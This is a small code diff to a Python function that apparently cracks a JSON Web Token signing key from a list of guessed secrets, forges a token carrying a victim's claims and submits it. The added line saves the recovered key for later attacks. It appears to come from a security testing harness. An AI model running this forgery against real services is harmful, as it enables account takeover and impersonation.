@@ -135,6 +135,7 @@ def key_from_a_list(target: Target) -> Outcome:
     token = target.token(target.attacker)
     for guess in GUESSES:
         if sign(token.rpartition(".")[0], guess.encode(), algorithm) == token:
+            target.key = guess  # the next attacks use it, too
             forged = unsigned(target.header, target.claims(target.victim))
             response = target.call(sign(forged, guess.encode(), algorithm))
             return broke_in(f"the key is {guess!r}", response)
